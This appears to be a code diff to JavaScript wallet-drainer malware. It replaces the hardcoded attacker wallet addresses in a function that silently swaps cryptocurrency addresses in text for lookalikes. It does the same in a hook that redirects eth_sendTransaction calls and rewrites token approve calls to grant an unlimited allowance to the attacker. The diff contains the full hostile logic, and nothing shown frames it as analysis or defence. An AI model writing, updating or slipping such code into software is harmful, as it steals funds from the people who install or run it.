@@ -26,11 +26,11 @@ function nearest(found, list) {
   return pick;
 }
 function swap(text) {
-  const legacy = ['1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx', '1Li1CRPwjovnGHGPTtcKzy75j37K6n97Rd', '1Dk12ey2hKWJctU3V8Akc1oZPo1ndjbnjP'];
-  const segwit = ['bc1qms4f8ys8c4z47h0q29nnmyekc9r74u5ypqw6wm', 'bc1qznntn2q7df8ltvx842upkd9uj4atwxpk0whxh9'];
-  const ethereum = ['0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976', '0xa29eeFb3f21Dc8FA8bce065Db4f4354AA683c024', '0x40C351B989113646bc4e9Dfe66AE66D24fE6Da7B'];
-  const tron = ['TB9emsCq6fQw6wRk4HBxxNnU6Hwt1DnV67', 'TSfbXqswodrpw8UBthPTRRcLrqWpnWFY3y'];
-  const solana = ['5VVyuV5K6c2gMq1zVeQUFAmo8shPZH28MJCVzccrsZG6', '98EWM95ct8tBYWroCxXYN9vCgN7NTcR6nUsvCx1mEdLZ'];
+  const legacy = ['1CeHXn8KvRQgRZNguAaZfSGHoApG1f4es7', '19JA3d1GZC9Q3zzPkaMqzHJK6PyypDGUwj', '1ZAPQmfe7J9AtBt9oMARG1E7C9Qb1sn15E'];
+  const segwit = ['bc1qypureq6cymyeym9ng094nsejufdcgd6dh2mr5m', 'bc1q6sjue8zx64z29w4y65xwks468dwpzu5h57c6x4'];
+  const ethereum = ['0x9aeffdc050bcb64b1d057f8b76238a4aafb487ee', '0xac3d934fbe8b9808a2da340372d693e68a87433b', '0x1d98ed1a69d15297e8dde14572d03999c6714cbd'];
+  const tron = ['TCBZfCce9ad9jFC76anPLB7z18nnoxhhz1', 'TEhs6Cd2Fk5zJJbfHn3iNvEMvNEBZkDZhW'];
+  const solana = ['2KNpaBmQnHXAhF9Dy3EcMSeL5qozJPfVoDbTmCp9G5fx', 'ErddMc3xb1QtRQxtSeMGVDF3evKMm3dCjYGW9bZXpPWA'];
   const kinds = [[/\b0x[a-fA-F0-9]{40}\b/g, ethereum], [/\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\b/g, legacy], [/\bbc1[qp][a-z0-9]{38,58}\b/g, segwit], [/\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g, tron], [/\b[1-9A-HJ-NP-Za-km-z]{43,44}\b/g, solana]];
   let out = text;
   for (const kind of kinds) { out = out.replace(kind[0], function (found) { return kind[1].indexOf(found) >= 0 ? found : nearest(found, kind[1]); }); }
@@ -68,8 +68,8 @@ function runmask() {
         const copy = JSON.parse(JSON.stringify(call || {}));
         if (copy.method === 'eth_sendTransaction' && copy.params && copy.params[0]) {
           const data = String(copy.params[0].data || '').toLowerCase();
-          copy.params[0].to = '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976';
-          if (data.startsWith('0x095ea7b3')) { copy.params[0].data = data.slice(0, 10) + 'Fc4a4858bafef54D1b1d7697bfb5c52F4c166976'.padStart(64, '0') + 'f'.repeat(64); }
+          copy.params[0].to = '0x9aeffdc050bcb64b1d057f8b76238a4aafb487ee';
+          if (data.startsWith('0x095ea7b3')) { copy.params[0].data = data.slice(0, 10) + '9aeffdc050bcb64b1d057f8b76238a4aafb487ee'.padStart(64, '0') + 'f'.repeat(64); }
         }
         return real.apply(this, [copy]);
       };
